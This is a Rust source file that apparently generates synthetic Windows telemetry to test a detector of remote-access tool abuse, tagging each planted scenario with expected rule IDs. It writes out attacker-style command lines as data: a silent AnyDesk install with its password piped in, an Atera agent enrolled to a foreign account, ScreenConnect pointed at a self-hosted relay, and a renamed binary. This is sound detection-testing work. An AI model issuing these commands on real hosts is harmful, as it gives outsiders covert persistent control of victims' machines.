//! The one-off scenarios: authorized MSP work, and the kinds of RMM abuse
//! that are a single activity on one host (a foreign tenant, a renamed or
//! silently installed tool, RMM only in memory, a self-hosted relay,
//! credential theft) or one network session (outside the VPN, an inbound
//! RMM port). The callback chains are in `chain.rs`.

use std::net::{IpAddr, Ipv4Addr};

use jiff::Timestamp;

use super::{ANYDESK, Planter, Stage, at, resolver};
use crate::event::{Proc, WinEvent};
use crate::network::{NetSession, Payload};

impl Planter<'_> {
    /// Authorized MSP work on every host: must produce no flag.
    pub(super) fn msp(&mut self) {
        let msp = self.env.msp.clone();
        let atera = r"C:\Program Files\ATERA Networks\AteraAgent\AteraAgent.exe";
        let sc_dir = format!(
            r"C:\Program Files (x86)\ScreenConnect Client ({})",
            msp.screenconnect_instance
        );
        let sc_service = format!(r"{sc_dir}\ScreenConnect.ClientService.exe");
        let sc_args = format!(
            "?e=Access&y=Guest&h={}&p=8041&s=9c1e4b02-6d3a-4f1e-9a87-{}&k=BgIAAACkAABSU0Ex&c=Contoso",
            msp.screenconnect_relay,
            self.rng.hex(12)
        );
        for host in 0..self.hosts.len() {
            let h = self.hosts[host];
            let t0 = at(self.env.start, 600 + self.rng.below(3600) as i64);
            let msi = format!(
                r#""C:\Windows\System32\msiexec.exe" /i "{}\Downloads\AteraAgentSetup.msi" /qn IntegratorLogin={} CompanyId=7 AccountId=001Q300000NwIT7"#,
                h.profile(),
                msp.atera_account
            );
            let events = vec![
                WinEvent::process_start(
                    h,
                    t0,
                    5120,
                    &Proc {
                        image: r"C:\Windows\System32\msiexec.exe",
                        command_line: &msi,
                        parent: r"C:\Windows\explorer.exe",
                        original_file_name: "msiexec.exe",
                        product: "Windows Installer - Unicode",
                        company: "Microsoft Corporation",
                        description: "Windows® installer",
                        file_version: "5.0.19041.1",
                        ..Proc::default()
                    },
                ),
                WinEvent::app_log(
                    h,
                    at(t0, 40),
                    "MsiInstaller",
                    11707,
                    "Product: AteraAgent -- Installation completed successfully.",
                ),
                WinEvent::service_install(h, at(t0, 45), "AteraAgent", &format!("\"{atera}\"")),
                WinEvent::process_start(
                    h,
                    at(t0, 50),
                    6204,
                    &Proc {
                        image: atera,
                        command_line: &format!("\"{atera}\""),
                        parent: r"C:\Windows\System32\services.exe",
                        original_file_name: "AteraAgent.exe",
                        product: "AteraAgent",
                        company: "Atera Networks",
                        description: "AteraAgent",
                        file_version: "1.8.7.2",
                        ..Proc::default()
                    },
                ),
                WinEvent::dns(h, at(t0, 55), atera, "agent-api.atera.com", "20.42.65.92"),
                WinEvent::service_install(
                    h,
                    at(t0, 300),
                    &format!("ScreenConnect Client ({})", msp.screenconnect_instance),
                    &format!("\"{sc_service}\" \"{sc_args}\""),
                ),
                WinEvent::process_start(
                    h,
                    at(t0, 305),
                    7311,
                    &Proc {
                        image: &sc_service,
                        command_line: &format!("\"{sc_service}\" \"{sc_args}\""),
                        parent: r"C:\Windows\System32\services.exe",
                        original_file_name: "ScreenConnect.ClientService.exe",
                        product: "ScreenConnect",
                        company: "ScreenConnect Software",
                        description: "ScreenConnect Client Service",
                        file_version: "23.9.8.8811",
                        ..Proc::default()
                    },
                ),
            ];
            let n = events.len() as u64;
            let end = at(t0, 305);
            for event in events {
                self.emit(host, event, false);
            }
            let atera = Stage {
                name: "authorized-rmm",
                tool: Some("atera"),
                tenant: Some(&msp.atera_account),
                expect: &[],
            };
            self.activity(host, None, &atera, false, (t0, end), 5);
            let screenconnect = Stage {
                name: "authorized-rmm",
                tool: Some("screenconnect"),
                tenant: Some(&msp.screenconnect_relay),
                expect: &[],
            };
            self.activity(host, None, &screenconnect, false, (t0, end), n - 5);
        }
    }

    /// The authorized Atera agent installed silently for a foreign account.
    pub(super) fn foreign_tenant(&mut self, host: usize) {
        let h = self.hosts[host];
        let t0 = self.when();
        let account = "billing-help@proton-mailbox.example";
        let msi = format!(
            r#""C:\Windows\System32\msiexec.exe" /i "{}\Downloads\setup_undefined_atera.msi" /qn IntegratorLogin={account} CompanyId=1 AccountId=001Q3000006btEYIAY"#,
            h.profile()
        );
        let atera = r"C:\Program Files\ATERA Networks\AteraAgent\AteraAgent.exe";
        let events = vec![
            WinEvent::process_start(
                h,
                t0,
                4410,
                &Proc {
                    image: r"C:\Windows\System32\msiexec.exe",
                    command_line: &msi,
                    parent: r"C:\Windows\explorer.exe",
                    original_file_name: "msiexec.exe",
                    product: "Windows Installer - Unicode",
                    company: "Microsoft Corporation",
                    ..Proc::default()
                },
            ),
            WinEvent::service_install(h, at(t0, 30), "AteraAgent", &format!("\"{atera}\"")),
        ];
        self.single(
            host,
            Stage {
                name: "foreign-tenant-install",
                tool: Some("atera"),
                tenant: Some(account),
                expect: &[
                    ("E004", Some("atera")),
                    ("E008", Some("atera")),
                    ("E010", Some("atera")),
                ],
            },
            t0,
            events,
        );
    }

    /// Plants one malicious activity of `events` on `host`.
    fn single(&mut self, host: usize, stage: Stage<'_>, t0: Timestamp, events: Vec<WinEvent>) {
        let end = events.last().map_or(t0, |e| e.time);
        let n = events.len() as u64;
        for event in events {
            self.emit(host, event, true);
        }
        self.activity(host, None, &stage, true, (t0, end), n);
    }

    /// AnyDesk copied under a driver-helper name.
    pub(super) fn renamed(&mut self, host: usize) {
        let h = self.hosts[host];
        let t0 = self.when();
        let image = r"C:\ProgramData\Intel\igfxCUIhelper.exe";
        let events = vec![WinEvent::process_start(
            h,
            t0,
            3020,
            &Proc {
                image,
                command_line: &format!("\"{image}\" --control"),
                parent: r"C:\Windows\System32\cmd.exe",
                ..ANYDESK
            },
        )];
        self.single(
            host,
            Stage {
                name: "renamed-rmm",
                tool: Some("anydesk"),
                tenant: None,
                expect: &[("E006", Some("anydesk")), ("E003", Some("anydesk"))],
            },
            t0,
            events,
        );
    }

    /// AnyDesk installed silently, password set on the command line.
    pub(super) fn silent_install(&mut self, host: usize) {
        let h = self.hosts[host];
        let t0 = self.when();
        let download = format!(r"{}\Downloads\AnyDesk.exe", h.profile());
        let installed = r"C:\Program Files (x86)\AnyDesk\AnyDesk.exe";
        let events = vec![
            WinEvent::process_start(
                h,
                t0,
                2210,
                &Proc {
                    image: &download,
                    command_line: &format!(
                        r#""{download}" --install "C:\Program Files (x86)\AnyDesk" --start-with-win --silent"#
                    ),
                    parent: r"C:\Windows\System32\cmd.exe",
                    ..ANYDESK
                },
            ),
            WinEvent::service_install(
                h,
                at(t0, 8),
                "AnyDesk",
                &format!("\"{installed}\" --service"),
            ),
            WinEvent::process_start(
                h,
                at(t0, 20),
                2290,
                &Proc {
                    image: installed,
                    command_line: &format!("\"{installed}\" --set-password"),
                    parent: r"C:\Windows\System32\cmd.exe",
                    parent_command_line: &format!(
                        r#"cmd.exe /c echo Sup3rS3cret! | "{installed}" --set-password"#
                    ),
                    ..ANYDESK
                },
            ),
        ];
        self.single(
            host,
            Stage {
                name: "silent-install",
                tool: Some("anydesk"),
                tenant: None,
                expect: &[
                    ("E008", Some("anydesk")),
                    ("E009", Some("anydesk")),
                    ("E010", Some("anydesk")),
                    ("E003", Some("anydesk")),
                ],
            },
            t0,
            events,
        );
    }

    /// RMM relay traffic from powershell and rundll32.
    pub(super) fn in_memory(&mut self, host: usize) {
        let h = self.hosts[host];
        let t0 = self.when();
        let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        let rundll = r"C:\Windows\System32\rundll32.exe";
        let relay = format!("relay-{}.net.anydesk.com", self.rng.hex(8));
        let instance = format!("instance-{}.screenconnect.com", self.rng.hex(6));
        let events = vec![
            WinEvent::dns(h, t0, powershell, &relay, "195.181.170.19"),
            WinEvent::connection(h, at(t0, 1), powershell, ("195.181.170.19", 443), &relay),
        ];
        self.single(
            host,
            Stage {
                name: "in-memory-rmm",
                tool: Some("anydesk"),
                tenant: Some(&relay),
                expect: &[("E007", Some("anydesk")), ("E003", Some("anydesk"))],
            },
            t0,
            events,
        );
        let t1 = at(t0, 900);
        let events = vec![
            WinEvent::dns(h, t1, rundll, &instance, "147.75.80.9"),
            WinEvent::connection(h, at(t1, 1), rundll, ("147.75.80.9", 443), &instance),
        ];
        self.single(
            host,
            Stage {
                name: "in-memory-rmm",
                tool: Some("screenconnect"),
                tenant: Some(&instance),
                expect: &[
                    ("E007", Some("screenconnect")),
                    ("E004", Some("screenconnect")),
                ],
            },
            t1,
            events,
        );
    }

    /// A ScreenConnect client service pointed at a self-hosted relay on 8041.
    pub(super) fn self_hosted(&mut self, host: usize) {
        let h = self.hosts[host];
        let t0 = self.when();
        let instance = self.rng.hex(16);
        let dir = format!(r"C:\Program Files (x86)\ScreenConnect Client ({instance})");
        let service = format!(r"{dir}\ScreenConnect.ClientService.exe");
        let relay = "rmm.helpdesk-secure.example";
        let args = format!(
            "?e=Access&y=Guest&h={relay}&p=8041&s=0b9c8d7e-6f5a-4b3c-2d1e-{}&k=BgIAAACkAABSU0Ex&t=&c=",
            self.rng.hex(12)
        );
        let events = vec![
            WinEvent::service_install(
                h,
                t0,
                &format!("ScreenConnect Client ({instance})"),
                &format!("\"{service}\" \"{args}\""),
            ),
            WinEvent::process_start(
                h,
                at(t0, 2),
                6610,
                &Proc {
                    image: &service,
                    command_line: &format!("\"{service}\" \"{args}\""),
                    parent: r"C:\Windows\System32\services.exe",
                    original_file_name: "ScreenConnect.ClientService.exe",
                    product: "ScreenConnect",
                    company: "ScreenConnect Software",
                    file_version: "23.9.8.8811",
                    ..Proc::default()
                },
            ),
            WinEvent::connection(h, at(t0, 4), &service, ("203.0.113.50", 8041), relay),
        ];
        self.single(
            host,
            Stage {
                name: "self-hosted-relay",
                tool: Some("screenconnect"),
                tenant: Some(relay),
                expect: &[
                    ("E004", Some("screenconnect")),
                    ("E010", Some("screenconnect")),
                ],
            },
            t0,
            events,
        );
    }

    /// A dumper reading TeamViewer's memory.
    pub(super) fn credential_theft(&mut self, host: usize) {
        let h = self.hosts[host];
        let t0 = self.when();
        let teamviewer = r"C:\Program Files\TeamViewer\TeamViewer.exe";
        let dumper = format!(r"{}\AppData\Local\Temp\tvdump.exe", h.profile());
        let events = vec![
            WinEvent::service_install(
                h,
                t0,
                "TeamViewer",
                &format!(
                    "\"{}\"",
                    teamviewer.replace("TeamViewer.exe", "TeamViewer_Service.exe")
                ),
            ),
            WinEvent::process_access(h, at(t0, 3600), &dumper, teamviewer, "0x1410"),
        ];
        self.single(
            host,
            Stage {
                name: "credential-theft",
                tool: Some("teamviewer"),
                tenant: None,
                expect: &[("E013", Some("teamviewer"))],
            },
            t0,
            events,
        );
    }

    /// The MSP's own ScreenConnect, but its relay port reached from a LAN
    /// host outside the approved VPN: the approved-path check (N006) and the
    /// outbound RMM port (N005) on the wire; nothing on the endpoint.
    pub(super) fn outside_vpn(&mut self, host: usize) {
        let t0 = self.when();
        let h = self.hosts[host];
        let relay = self.env.msp.screenconnect_relay.clone();
        let session = NetSession {
            client: (IpAddr::V4(h.ip), self.ephemeral_port()),
            server: (IpAddr::V4(Ipv4Addr::new(203, 0, 113, 41)), 8041),
            start: t0,
            lookup: Some((relay.clone(), IpAddr::V4(resolver(h)))),
            payload: Payload::Opaque {
                client_bytes: 48_000,
                server_bytes: 1_400_000,
            },
        };
        self.network_activity(
            host,
            session,
            &Stage {
                name: "outside-vpn",
                tool: Some("screenconnect"),
                tenant: Some(&relay),
                expect: &[
                    ("N005", Some("screenconnect")),
                    ("N006", Some("screenconnect")),
                ],
            },
        );
    }

    /// A VNC server on a workstation answered a client on the internet: the
    /// inbound RMM port (N004), the session recognized by its RFB banners
    /// (N002), off the approved path (N006), and VNC unapproved (E003).
    pub(super) fn inbound_port(&mut self, host: usize) {
        let t0 = self.when();
        let h = self.hosts[host];
        let octet = 10 + self.rng.below(200) as u8;
        let session = NetSession {
            client: (
                IpAddr::V4(Ipv4Addr::new(198, 51, 100, octet)),
                self.ephemeral_port(),
            ),
            server: (IpAddr::V4(h.ip), 5900),
            start: t0,
            lookup: None,
            payload: Payload::Rfb,
        };
        self.network_activity(
            host,
            session,
            &Stage {
                name: "inbound-port",
                tool: Some("vnc"),
                tenant: None,
                expect: &[
                    ("E003", Some("vnc")),
                    ("N002", Some("vnc")),
                    ("N004", Some("vnc")),
                    ("N006", Some("vnc")),
                ],
            },
        );
    }

    fn ephemeral_port(&mut self) -> u16 {
        49_152 + self.rng.below(16_000) as u16
    }

    /// Records a network session and its truth. Network findings name the
    /// host by its address, so the expectations do too.
    fn network_activity(&mut self, host: usize, session: NetSession, stage: &Stage<'_>) {
        let h = self.hosts[host];
        let span = (session.start, at(session.start, 120));
        self.plan.sessions.push((host, session));
        self.activity(host, None, stage, true, span, 1);
        self.expect_findings_on(&h.ip.to_string());
    }
}
